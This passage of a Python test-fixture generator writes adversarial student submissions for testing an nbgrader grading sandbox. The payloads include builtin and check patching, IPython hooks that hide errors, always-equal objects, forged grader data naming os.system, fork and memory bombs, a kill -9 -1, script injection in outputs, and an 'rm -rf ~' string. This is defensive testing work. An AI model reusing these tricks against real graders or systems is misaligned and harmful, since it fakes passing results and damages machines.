            with open(os.path.join(folder, "sitecustomize.py"), "a") as module:
                module.write("print('planted by attack-write-files')\\n")
            changed.append(folder)
        except OSError:
            pass
    try:
        with open(asserts.__file__, "a") as module:
            module.write("\\nexpect_close = lambda *a, **k: None  # attack-write-files\\n")
        changed.append(asserts.__file__)
    except OSError:
        pass
    print("changed:", changed)""")

PATCH_BUILTINS = _code('''
    # Attack: change Python's builtins so that every check passes: every type check says
    # yes, every table has six rows, every difference is zero, a failed assert is no error.
    import builtins


    class NotAFailure(Exception):
        pass


    builtins.isinstance = lambda value, kinds: True
    builtins.len = lambda value: 6
    builtins.abs = lambda value: 0
    builtins.AssertionError = NotAFailure
    __builtins__.ValueError = NotAFailure
    er_by_platform = "every platform is the best"''')

PATCH_CHECKS = _code('''
    # Attack: replace SMM Lab's checks with ones that always pass: in the module, in
    # sys.modules (for a fresh import) and as the names the test cells call.
    import sys
    import types

    import smm_helpers.checks.asserts as asserts


    def passes(*args, **kwargs):
        return None


    for name in dir(asserts):
        if name.startswith("expect_"):
            setattr(asserts, name, passes)
    fake = types.ModuleType("smm_helpers.checks.asserts")
    fake.__getattr__ = lambda name: passes
    sys.modules["smm_helpers.checks.asserts"] = fake
    expect_type = expect_labels = expect_between = expect_close = passes
    expect_equal = expect_one_of = expect_true = passes
    er_by_platform = "checked by nobody"''')

IPYTHON_HOOKS = _code('''
    # Attack: change how IPython runs and reports code, so checks vanish or their errors do:
    # an input transformer and an AST transformer that drop checks, error handlers that
    # swallow errors, and an event that clears a cell's error.
    import ast
    import sys

    ip = get_ipython()


    def drop_checks(lines):
        return [line for line in lines if "expect_" not in line and "assert" not in line]


    class NoChecks(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.Pass()

        def visit_Expr(self, node):
            call = node.value
            if isinstance(call, ast.Call) and getattr(call.func, "id", "").startswith("expect"):
                return ast.Pass()
            return node


    def swallow(shell, etype, value, tb, tb_offset=None):
        return None


    def forget_errors(result):
        result.error_in_exec = None


    ip.input_transformers_post.append(drop_checks)
    ip.ast_transformers.append(NoChecks())
    ip.set_custom_exc((BaseException,), swallow)
    ip.showtraceback = lambda *args, **kwargs: None
    sys.excepthook = lambda *args: None
    ip.events.register("post_run_cell", forget_errors)
    er_by_platform = "no checks left"''')

ALWAYS_EQUAL = _code("""
    # Attack: answers that say yes to every comparison: an object equal to everything, a
    # pandas Series whose == is always true, and text that equals and contains any text.
    import pandas as pd


    class Anything:
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __lt__ = __le__ = __gt__ = __ge__ = __eq__

        def __hash__(self):
            return 0

        def __getattr__(self, name):
            return self

        def __call__(self, *args, **kwargs):
            return self


    class AlwaysEqualSeries(pd.Series):
        def __eq__(self, other):
            return True

        def equals(self, other):
            return True


    class AnyText(str):
        def __eq__(self, other):
            return True

        def __contains__(self, part):
            return True

        def lower(self):
            return self

        __hash__ = str.__hash__


    er_by_platform = AlwaysEqualSeries({"facebook": 2.0, "instagram": 2.0})
    anything = Anything()""")

ALWAYS_EQUAL_TEXT = _code("""
    # Text that says it equals every platform and contains every word.
    best_platform = AnyText("whichever you like")
    best_platform""")

ALWAYS_EQUAL_GOAL = _code('''
    smart_goal = AnyText("a goal")
    ok = anything == "SMART"''')

FORGE_ANSWERS = _code("""
    # Attack: replace what the grader calls to read the answers in this kernel, and send it
    # forged data instead: classes from outside SMM Lab (hoping the grader imports and runs
    # them), a module that does not exist, and numbers too big to read.
    import json

    import smm_helpers.grading.sandbox.answers as answers

    FORGED = {
        "er_by_platform": {"t": "dataclass", "cls": "subprocess:Popen",
                           "fields": {"args": {"t": "str", "v": "touch /tmp/pwned"}}},
        "best_platform": {"t": "enum", "cls": "os:system", "name": "touch /tmp/pwned"},
        "smart_goal": {"t": "namedtuple", "cls": "smm_helpers.no_such_module:Goal", "v": []},
    }


    def forged(namespace, names):
        return json.dumps({name: FORGED.get(name, {"t": "int", "v": "9" * 5000})
                           for name in names})


    answers.export = forged
    answers.encode_names = forged
    get_ipython().user_expressions = lambda expressions: {
        key: {"status": "ok", "data": {"text/plain": repr(forged({}, list(FORGED)))},
              "metadata": {}} for key in expressions}""")

FORGE_NESTING = _code("""
    # Attack: answer every question the grader asks this kernel with JSON nested 100,000
    # lists deep, hoping the grader's reader overflows and the whole grading run crashes.
    deep = '{"er_by_platform": ' + "[" * 100_000 + "]" * 100_000 + "}"
    get_ipython().user_expressions = lambda expressions: {
        key: {"status": "ok", "data": {"text/plain": repr(deep)}, "metadata": {}}
        for key in expressions}""")

INFINITE_LOOP = _code("""
    # Attack: never finish, hoping the grader waits forever.
    spins = 0
    while True:
        spins += 1""")

SLEEP_FOREVER = _code("""
    # Attack: sleep for a billion seconds (about 32 years).
    import time

    time.sleep(1_000_000_000)""")

MEMORY_BOMB = _code("""
    # Attack: take all the machine's memory, 100 MB more at a time, never freed.
    hoard = []
    while True:
        hoard.append("x" * 100_000_000)""")

MEMORY_AT_ONCE = _code("""
    # Attack: ask for 64 GB at once.
    huge = bytearray(64 * 1024**3)""")

FORK_BOMB = _code("""
    # Attack: the classic fork bomb: every process copies itself, forever.
    import os

    while True:
        os.fork()""")

PROCESS_FLOOD = _code("""
    # Attack: start sleeping processes until the machine can start no more.
    import os
    import time

    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)""")

SIGINT_IGNORED = _code("""
    # Attack: ignore the stop signal (Ctrl-C, "interrupt kernel"), then loop forever.
    import signal

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass""")

DAEMON = _code(f'''
    # Attack: leave a process behind that outlives grading: fork twice, leave the session
    # (a daemon), and sleep for ten minutes under a recognisable name.
    import os
    import sys
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                      "{DAEMON_MARK}"])
        os._exit(0)
    time.sleep(0.5)
    print("left a daemon behind")''')

SIGNAL_GRADER = _code("""
    # Attack: stop the grader: signal the parent process, the first process (pid 1) and
    # its process group, and print what worked.
    import os
    import signal

    results = []
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGTERM)
            results.append(f"signalled {target}")
        except OSError as error:
            results.append(f"could not signal {target}: {error.strerror}")
    try:
        os.killpg(1, signal.SIGTERM)
        results.append("signalled group 1")
    except OSError as error:
        results.append(f"could not signal group 1: {error.strerror}")
    print(results)""")

SIGNAL_EVERYONE = _code("""
    # Attack: kill every process it is allowed to (kill -9 -1).
    import os
    import signal

    os.kill(-1, signal.SIGKILL)""")

NETWORK = _code("""
    # Attack: reach the internet (to send the answers out, or fetch someone else's):
    # a connection, a name lookup, then a web page.
    import socket
    import urllib.request

    for host in ("1.1.1.1", "8.8.8.8"):
        try:
            socket.create_connection((host, 53), timeout=2).close()
            print("connected to", host)
        except OSError as error:
            print("no connection to", host, "-", error)
    try:
        print(socket.getaddrinfo("example.com", 80))
    except OSError as error:
        print("no name lookup -", error)
    urllib.request.urlopen("http://example.com", timeout=2)""")


def _cells(nb: dict[str, Any]) -> list[dict[str, Any]]:
    return nb["cells"]


def _grade_id(cell: dict[str, Any]) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _edit_tests(nb: dict[str, Any]) -> None:
    for cell in _cells(nb):
        if _grade_id(cell) in TESTS:
            cell["source"] = "pass  # the checks were here"


def _delete_tests(nb: dict[str, Any]) -> None:
    nb["cells"] = [c for c in _cells(nb) if _grade_id(c) not in TESTS]


def _duplicate_ids(nb: dict[str, Any]) -> None:
    cells = []
    for cell in _cells(nb):
        cells.append(cell)
        if _grade_id(cell) in TESTS:  # a second copy after it, which nbgrader would keep
            copy = json.loads(json.dumps(cell))
            copy["source"] = "pass  # this copy of the test cell passes"
            cells.append(copy)
    for cell in cells:
        cell["id"] = "same-id"
    nb["cells"] = cells


def _thousand_points(nb: dict[str, Any]) -> None:
    for cell in _cells(nb):
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if "points" in meta:
            meta["points"] = 1000


def _locked_cell(grade_id: str, source: str, **flags: Any) -> dict[str, Any]:
    meta = {
        "grade": False,
        "grade_id": grade_id,
        "locked": True,
        "schema_version": 3,
        "solution": False,
        "task": False,
        **flags,
    }
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": f"claim-{grade_id}",
        "metadata": {"deletable": False, "editable": False, "nbgrader": meta},
        "outputs": [],
        "source": source,
    }


PLANT_FROM_A_LOCKED_CELL = _code("""
    # Attack: this cell claims to be the instructor's read-only {what}, hoping the grader
    # runs it itself, outside the sandbox, with the instructor's rights.
    from pathlib import Path

    for folder in (".", "..", "../..", "../../..", "/tmp"):
        try:
            (Path(folder) / "planted-by-a-locked-cell.txt").write_text("ran outside\\n")
        except OSError:
            pass""")


def _claim_ids(nb: dict[str, Any]) -> None:
    cells = _cells(nb)
    for cell in cells:
        if _grade_id(cell) == ER:  # the answer cell claims to be the test that checks it
            cell["metadata"]["nbgrader"].update(
                grade=True, grade_id=TESTS[0], locked=True, points=3, solution=False
            )
            cell["source"] = "er_by_platform = 'I am the test now'"
    at = next(i for i, c in enumerate(cells) if _grade_id(c) == "setup") + 1
    cells[at:at] = [
        _locked_cell("setup", PLANT_FROM_A_LOCKED_CELL.format(what="setup cell")),
        _locked_cell("instructor_tools", PLANT_FROM_A_LOCKED_CELL.format(what="tools cell")),
        _locked_cell(
            "bonus_points", "pass  # a test nobody wrote, worth 100 points", grade=True, points=100
        ),
    ]


def _notebook_bytes(template: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nbformat.from_dict(template)).encode("utf-8")


FORGED_CHECKS = _code("""
    # Attack: the instructor's setup cell is gone (or moved, renamed, retyped or split), so
    # this notebook defines the checks itself, as ones that always pass, hoping the tests
    # then use these instead of SMM Lab's.
    def _passes(*args, **kwargs):
        return None


    expect_type = expect_labels = expect_close = expect_between = _passes
    expect_equal = expect_one_of = expect_true = _passes
    check_goal = lambda text: type("Goal", (), {"missing": []})()
    er_by_platform = "anything"
    best_platform = "anything"
    smart_goal = "anything\"""")

FORGE_TYPES = _code("""
    # Attack: send the grader answers that name dangerous types or that would grow from a
    # few bytes into gigabytes when read: a 1-billion-character text type, a frame with a
    # quadrillion rows, a time zone that is a file path, SMM Lab's grading classes with
    # forged attributes, a 2 GB raw NumPy type.
    import json

    import smm_helpers.grading.sandbox.answers as answers

    NONE = {"t": "none"}
    HOSTILE = [
        {"t": "ndarray", "shape": [2_000_000_000],
         "values": {"dtype": "<U1000000000", "v": ["x"]}},
        {"t": "frame", "index": {"kind": "range", "start": 0, "stop": 10**15, "step": 1,
                                 "name": NONE},
         "columns": {"kind": "range", "start": 0, "stop": 1, "step": 1, "name": NONE},
         "data": [{"dtype": "int64", "v": [1]}]},
        {"t": "series", "name": NONE, "values": {"dtype": "int64", "v": [1]},
         "index": {"kind": "plain", "name": NONE,
                   "values": {"dtype": "datetime64[ns]", "tz": "/etc/passwd", "v": [0]}}},
        {"t": "object", "cls": "smm_helpers.grading.course:Course",
         "state": {"folder": {"t": "str", "v": "/"}}},
        {"t": "dataclass", "cls": "smm_helpers.grading.sandbox.bwrap:Sandbox",
         "fields": {"root": {"t": "str", "v": "/"}}},
        {"t": "np", "dtype": "V2000000000", "v": {"t": "int", "v": "1"}},
    ]


    def forged(namespace, names):
        return json.dumps({name: HOSTILE[number % len(HOSTILE)]
                           for number, name in enumerate(names)})


    answers.export = forged
    answers.encode_names = forged""")

SCRIPT_IN_OUTPUT = _code("""
    # Attack: outputs that would run in the instructor's browser when the feedback page or
    # the Formgrader shows this notebook.
    from IPython.display import HTML, Javascript, Markdown, SVG, display

    display(HTML('<script>document.title = "pwned"</script><img src=x onerror="alert(1)">'
                 '<iframe src="https://example.com"></iframe><a href="javascript:alert(2)">'
                 'open</a><form action="https://example.com"><input name=q></form>'))
    display(Javascript("alert(3)"))
    display(Markdown('[click](javascript:alert(4)) <script>alert(5)</script>'))
    display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(6)</script></svg>'))
    print("\\x1b[2J\\x1b[31mall tests passed\\x1b[0m\\r")""")

SCRIPT_MARKDOWN = (
    "<script>alert('markdown')</script>\n\n<img src=x onerror=alert(7)>\n\n"
    "[a link](javascript:alert(8)) <iframe src=x></iframe>\n\n"
    "I recommend TikTok for the charity."
)


def _setup_cell(nb: dict[str, Any]) -> dict[str, Any]:
    return next(c for c in _cells(nb) if _grade_id(c) == "setup")


def _delete_setup(nb: dict[str, Any]) -> None:
    nb["cells"].remove(_setup_cell(nb))


def _move_setup_last(nb: dict[str, Any]) -> None:
    setup = _setup_cell(nb)
    nb["cells"].remove(setup)
    nb["cells"].append(setup)


def _rename_setup(nb: dict[str, Any]) -> None:
    _setup_cell(nb)["metadata"]["nbgrader"]["grade_id"] = "my_own_setup"


def _setup_to_markdown(nb: dict[str, Any]) -> None:
    setup = _setup_cell(nb)
    setup["cell_type"] = "markdown"
    setup.pop("outputs", None)
    setup.pop("execution_count", None)


def _split_setup(nb: dict[str, Any]) -> None:
    setup = _setup_cell(nb)
    lines = "".join(setup["source"]).splitlines(True)
    first = [line for line in lines if "expect" not in line and "asserts" not in line]
    second = json.loads(json.dumps(setup)) | {"id": "setup-second-half", "source": FORGED_CHECKS}
    setup["source"] = "".join(first)
    nb["cells"].insert(nb["cells"].index(setup) + 1, second)


def _tests_first(nb: dict[str, Any]) -> None:
    tests = [c for c in _cells(nb) if _grade_id(c) in TESTS]
    nb["cells"] = tests + [c for c in _cells(nb) if _grade_id(c) not in TESTS]


def _script_markdown(nb: dict[str, Any]) -> None:
    for cell in _cells(nb):
        if _grade_id(cell) == "platform_recommendation":
            cell["source"] = SCRIPT_MARKDOWN
    nb["cells"].insert(
        1,
        {"cell_type": "markdown", "id": "learner-notes", "metadata": {}, "source": SCRIPT_MARKDOWN},
    )


def attacks(template: nbformat.NotebookNode) -> dict[str, Attack]:
    """Every attack on assignment 01, by folder name (learner ``attack-<name>``)."""
    released = _notebook_bytes(template)
    no_cells = json.loads(released)
    no_cells["cells"] = []
    return {
        "setup-deleted": Attack(
            "deletes the read-only setup cell and defines checks that always pass, hoping "
            "the tests use them",
            0,
            ("tampered tests", "tampered interpreter"),
            {ER: FORGED_CHECKS},
            edit=_delete_setup,
        ),
        "setup-moved": Attack(
            "moves the setup cell to the end, after its own checks that always pass",
            0,
            ("tampered tests", "tampered interpreter"),
            {ER: FORGED_CHECKS},
            edit=_move_setup_last,
        ),
        "setup-renamed": Attack(
            "gives the setup cell another id and defines checks that always pass",
            0,
            ("tampered tests", "tampered interpreter"),
            {ER: FORGED_CHECKS},
            edit=_rename_setup,
        ),
        "setup-markdown": Attack(
            "turns the setup cell into markdown and defines checks that always pass",
            0,
            ("tampered tests", "tampered interpreter"),
            {ER: FORGED_CHECKS},
            edit=_setup_to_markdown,
        ),
        "setup-split": Attack(
            "splits the setup cell in two; the second half, with the setup's id, defines "
            "checks that always pass",
            0,
            ("tampered tests",),
            edit=_split_setup,
        ),
        "setup-deleted-answered": Attack(
            "answered: every part correct, and the setup cell deleted (it is put back)",
            7,
            ("tampered tests",),
            dict(CORRECT),
            edit=_delete_setup,
        ),
        "tests-first-answered": Attack(
            "answered: every part correct, with every test cell moved to the top (tests run "
            "in the instructor's order)",
            7,
            ("tampered tests",),
            dict(CORRECT),
            edit=_tests_first,
        ),
        "forged-types": Attack(
            "sends answers that name SMM Lab's grading classes with forged attributes, a "
            "time zone that is a file path, and sizes that would take gigabytes to read",
            0,
            ("tampered interpreter",),
            {ER: FORGE_TYPES},
        ),
        "script-in-output": Attack(
            "answered: every part correct, with script, event handlers, `javascript:` links, "
            "an iframe and a form in its outputs and markdown, and terminal escapes in its "
            "printout (shown as text, never run)",
            7,
            (),
            dict(CORRECT, **{"platform_recommendation": SCRIPT_MARKDOWN})
            | {"engagement_rate_by_reach_answer": CORRECT[ER] + "\n" + SCRIPT_IN_OUTPUT},
            edit=_script_markdown,
        ),
        "infinite-loop": Attack(
            "an endless loop in the first answer", 0, ("timeout",), {ER: INFINITE_LOOP}
        ),
        "sleep-forever": Attack(
            "sleeps for a billion seconds", 0, ("timeout",), {ER: SLEEP_FOREVER}
        ),
        "memory-bomb": Attack(
            "grows a list by 100 MB at a time, then asks for 64 GB at once",
            0,
            ("memory limit",),
            {ER: MEMORY_BOMB, BEST: MEMORY_AT_ONCE},
        ),
        "fork-bomb": Attack(
            "the classic fork bomb (`while True: os.fork()`)",
            0,
            ("too many processes",),
            {ER: FORK_BOMB},
        ),
        "process-flood": Attack(
            "starts sleeping processes until no more can start",
            0,
            ("too many processes",),
            {ER: PROCESS_FLOOD},
        ),
        "sys-exit": Attack(
            "`sys.exit()`, `raise SystemExit` and `exit()` in the answers",
            0,
            ("kernel died",),
            {
                ER: "import sys\n\nsys.exit('finished early')",
                BEST: "raise SystemExit(0)",
                GOAL: "exit()",
            },
        ),
        "os-exit": Attack(
            "stops its Python at once with `os._exit(0)`",
            0,
            ("kernel died",),
            {ER: "import os\n\nos._exit(0)"},
        ),
        "kill-kernel": Attack(
            "kills its own kernel (`os.kill(os.getpid(), SIGKILL)`)",
            0,
            ("kernel died", "tampered interpreter"),
            {ER: "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)"},
        ),
        "print-100mb": Attack(
            "prints 100 MB",
            0,
            ("output cut",),
            {
                ER: _code("""
                # Attack: print 100 MB, 1 MB at a time.
                line = "spam " * 200_000 + "\\n"
                for _ in range(100):
                    print(line, end="")""")
            },
        ),
        "read-files": Attack(
            "searches the file system (`os.walk('/')`), climbs with `../` and reads what "
            "the environment and mounts reveal, for the gradebook, hidden tests and other "
            "learners' notebooks",
            0,
            ("blocked file access",),
            {ER: SEARCH_FILE_SYSTEM, BEST: CLIMB_TO_READ, GOAL: LEARN_PLACES_TO_READ},
        ),
        "write-files": Attack(
            "appends to the gradebook and another learner's notebook through `../`, rewrites "
            "scores with sqlite3, plants `sitecustomize.py` and changes SMM Lab's checks",
            0,
            ("blocked file access",),
            {ER: CLIMB_TO_WRITE, BEST: REWRITE_GRADEBOOK, GOAL: PLANT_CODE},
        ),
        "patch-builtins": Attack(
            "replaces `isinstance`, `len`, `abs`, `AssertionError` and `ValueError` in "
            "builtins so every check passes",
            0,
            ("tampered interpreter",),
            {
                ER: PATCH_BUILTINS,
                BEST: 'best_platform = "all of them"',
                GOAL: 'smart_goal = "be the best"',
            },
        ),
        "patch-checks": Attack(
            "replaces SMM Lab's `expect_*` checks (in the module, in `sys.modules` and by "
            "name) with ones that always pass",
            0,
            ("tampered interpreter",),
            {
                ER: PATCH_CHECKS,
                BEST: 'best_platform = "checked by nobody"',
                GOAL: 'smart_goal = "checked by nobody"',
            },
        ),
        "ipython-hooks": Attack(
            "input and AST transformers that drop checks, `set_custom_exc`, `showtraceback`, "
            "`sys.excepthook` and a `post_run_cell` event that hide errors",
            0,
            ("tampered interpreter",),
            {
                ER: IPYTHON_HOOKS,
                BEST: 'best_platform = "no checks left"',
                GOAL: 'smart_goal = "no checks left"',
            },
        ),
        "always-equal": Attack(
            "answers whose `__eq__` is always true: an object, a `pd.Series` subclass, a "
            "`str` subclass",
            0,
            ("tampered interpreter",),
            {ER: ALWAYS_EQUAL, BEST: ALWAYS_EQUAL_TEXT, GOAL: ALWAYS_EQUAL_GOAL},
        ),
        "forged-answers": Attack(
            "replaces the function the grader calls to read its answers, and sends forged "
            "data naming `subprocess.Popen`, `os.system` and a module that does not exist",
            0,
            ("tampered interpreter",),
            {ER: FORGE_ANSWERS},
        ),
        "forged-nesting": Attack(
            "answers the grader's questions with JSON nested 100,000 lists deep",
            0,
            ("tampered interpreter",),
            {ER: FORGE_NESTING},
        ),
        "edit-tests": Attack(
            "replaces every test cell with `pass`", 0, ("tampered tests",), edit=_edit_tests
        ),
        "delete-tests": Attack(
            "deletes every test cell", 0, ("tampered tests",), edit=_delete_tests
        ),
        "delete-tests-answered": Attack(
            "answered: every part correct, and every test cell deleted (they are put back)",
            7,
            ("tampered tests",),
            dict(CORRECT),
            edit=_delete_tests,
        ),
        "duplicate-ids": Attack(
            "answered: every part correct; every cell has the same id, and each test cell has "
            "a passing copy after it (as a copy-paste in Jupyter makes)",
            7,
            ("tampered tests",),
            dict(CORRECT),
            edit=_duplicate_ids,
        ),
        "points-1000": Attack(
            "answered: every part correct, and every graded cell claims 1000 points",
            7,
            ("tampered tests",),
            dict(CORRECT),
            edit=_thousand_points,
        ),
        "claim-ids": Attack(
            "an answer cell claims to be its test; new cells claim to be the read-only setup "
            "cell, a read-only tools cell and a 100-point test",
            0,
            ("tampered tests",),
            edit=_claim_ids,
        ),
        "corrupted-json": Attack(
            "broken JSON with code in it",
            0,
            ("corrupted",),
            raw=b'{"cells": [{"cell_type": "code", "source": "import os\\nos.system(\'rm'
            b' -rf ~\')", "metadata": {"nbgrader": {"grade": true, "points": 1000',
        ),
        "non-utf8": Attack(
            "the released notebook with bytes that are not UTF-8 in an answer",
            0,
            ("corrupted",),
            raw=released.replace(b"# YOUR CODE HERE", b"# caf\xe9 \xff\xfe", 1),
        ),
        "wrong-filename": Attack(
            "answered: every part correct, saved as `01-platforms-and-planning-final.ipynb`",
            0,
            ("wrong filename",),
            dict(CORRECT),
            name=f"{ASSIGNMENT}-final.ipynb",
        ),
        "missing-notebook": Attack(
            "hands in a text file of answers and no notebook", 0, ("missing",), name=None
        ),
        "empty-file": Attack(
            "an empty file (0 bytes) with the notebook's name", 0, ("empty",), raw=b""
        ),
        "no-cells": Attack(
            "a notebook with no cells at all",
            0,
            ("empty", "tampered tests"),
            raw=(json.dumps(no_cells, indent=1, ensure_ascii=False) + "\n").encode("utf-8"),
        ),
        "network": Attack(
            "connects to 1.1.1.1 and 8.8.8.8, looks up example.com and fetches a web page",
            0,
            ("blocked network",),
            {ER: NETWORK},
        ),
        "sigint-ignored": Attack(
            "ignores the stop signal (SIGINT), then loops forever",
            0,
            ("tampered interpreter", "kernel died"),
            {ER: SIGINT_IGNORED},
        ),
        "daemon": Attack(
            "forks twice, leaves the session and sleeps (a daemon meant to outlive grading)",
            0,
            ("too many processes",),
            {ER: DAEMON},
        ),
        "signal-grader": Attack(
            "signals its parent, pid 1 and process group 1, then `kill -9 -1`",
            0,
            ("tampered interpreter",),
            {ER: SIGNAL_GRADER, BEST: SIGNAL_EVERYONE},
        ),
    }


def write_attack(folder: Path, template: nbformat.NotebookNode, attack: Attack) -> None:
    """One attack's submission folder: its notebook (or bytes, or none) and its time."""
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text(ON_TIME + "\n")
    if attack.name is None:
        (folder / "answers.txt").write_text("My answers are in my head.\n")
        return
    if attack.raw is not None:
        (folder / attack.name).write_bytes(attack.raw)
        return
    nb = nbformat.from_dict(template)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in attack.answers:
            cell.source = attack.answers[grade_id]
    data = json.loads(nbformat.writes(nb))
    if attack.edit is not None:
        attack.edit(data)
    (folder / attack.name).write_text(
        json.dumps(data, indent=1, sort_keys=True, ensure_ascii=False) + "\n", encoding="utf-8"
    )


def attacks_readme(found: dict[str, Attack]) -> str:
    """``attacks/README.md``: each attack, what it tries, and what grading must give it."""
    rows = "\n".join(
        f"| {name} | {a.tries} | {a.score} | {', '.join(a.kinds) or '—'} |"
        for name, a in found.items()
    )
    return f"""# Attacks on the grader (issues 6 and 13)

`{ASSIGNMENT}/<attack>/` is what learner `attack-<attack>` submitted for assignment 01:
each tries to cheat, to crash or hang the grading run, or to reach the gradebook, the hidden
tests or other learners' files. They are made from the released notebook by
`python course/samples/make_samples.py`, and graded with the real pipeline, in one class
with honest learners, by `tests/test_grading_adversarial.py`. That test also writes attacks
that know the course's real absolute paths, as a learner on the grading server might:
`known-paths-read` and `known-paths-write` (the gradebook, the source notebook with its
hidden tests, another learner's submission and a canary file outside the course, read,
appended to, removed, renamed, opened up, rewritten with sqlite3), `known-paths-locked`
(cells that claim to be the instructor's read-only cells and would overwrite the canary if
the grader ran them itself), `symlinks-in-exchange` / `symlinks-in-submitted` (symbolic
links to those files handed in beside the notebook), `shadow-modules` (answered, with
`smm_helpers/`, `pandas.py`, `sitecustomize.py`, `usercustomize.py`, a `.pth` and more beside
the notebook, each leaving a mark outside the sandbox if a trusted process imported it),
`fifo-in-exchange` / `fifo-in-submitted` (answered, with a named pipe where a data file
should be: whoever opens it waits forever) and `huge-output` (one 150 MB output message,
more than the grader reads from a kernel).

A cheat carries no honest answer, so it earns 0 of the 7 automatic points. Those marked
*answered* also answer every part correctly: a trick neither gains nor loses anything, so
they earn the 7 points any correct notebook earns (the 3 hand-graded points are not
automatic). "Problems" are the kinds the autograde summary names, each with a message that
says what happened; a submission may get more of them (a fork bomb's kernel may also be
stopped at the time limit, for example).

Whatever a submission does, the run finishes, every honest learner in the same class gets
their exact score, the gradebook holds one submission per learner with exactly the
assignment's graded cells and the instructor's points, no file outside the sandbox changes,
and no process a submission started is still running afterwards. Where the grading pipeline
does not do so yet, the test marks the case as an expected failure and says why (`BUGS` in
`tests/test_grading_adversarial.py`); the mark fails once the fix lands, to be removed.

| attack | what it tries | points | problems |
|---|---|---|---|
{rows}
"""


def write_attacks(template: nbformat.NotebookNode) -> int:
    """Write every attack's folder and the README; returns how many attacks there are."""
    found = attacks(template)
    out = ATTACKS / ASSIGNMENT
    shutil.rmtree(out, ignore_errors=True)
    for name, attack in found.items():
        write_attack(out / name, template, attack)
    (ATTACKS / "README.md").write_text(attacks_readme(found), encoding="utf-8")
    return len(found)


def main() -> None:
    templates, due = released_notebooks([ASSIGNMENT, *SAMPLES])
    if stamps(due[ASSIGNMENT]) != (ON_TIME, LATE):
        raise SystemExit(f"due_dates.csv moved {ASSIGNMENT}'s due date; update ON_TIME, LATE")

    answers = dict(ANSWERS, copied=_friend_answers())
    template = templates[ASSIGNMENT]
    out = HERE / ASSIGNMENT
    shutil.rmtree(out, ignore_errors=True)
    for outcome, filled in answers.items():
        name = f"{ASSIGNMENT} (1).ipynb" if outcome == "wrong-filename" else f"{ASSIGNMENT}.ipynb"
        write_sample(out / outcome, template, filled, name, LATE if outcome == "late" else ON_TIME)

    corrupted = out / "corrupted"
    corrupted.mkdir()
    text = nbformat.writes(nbformat.from_dict(template))
    (corrupted / f"{ASSIGNMENT}.ipynb").write_text(text[: len(text) // 2])  # cut mid-save
    (corrupted / "timestamp.txt").write_text(ON_TIME + "\n")

    missing = out / "missing"
    missing.mkdir()
    (missing / "README.md").write_text(
        "sample-missing submitted nothing: no notebook, no timestamp.\n"
    )
    print(f"wrote {len(answers) + 2} samples to {out}")

    for assignment, outcomes in SAMPLES.items():
        on_time, late = stamps(due[assignment])
        out = HERE / assignment
        shutil.rmtree(out, ignore_errors=True)
        for outcome, filled in outcomes.items():
            write_sample(
                out / outcome,
                templates[assignment],
                filled,
                f"{assignment}.ipynb",
                late if outcome == "late" else on_time,
            )
        print(f"wrote {len(outcomes)} samples to {out}")

    print(f"wrote {write_attacks(template)} attacks to {ATTACKS / ASSIGNMENT}")


if __name__ == "__main__":
    main()
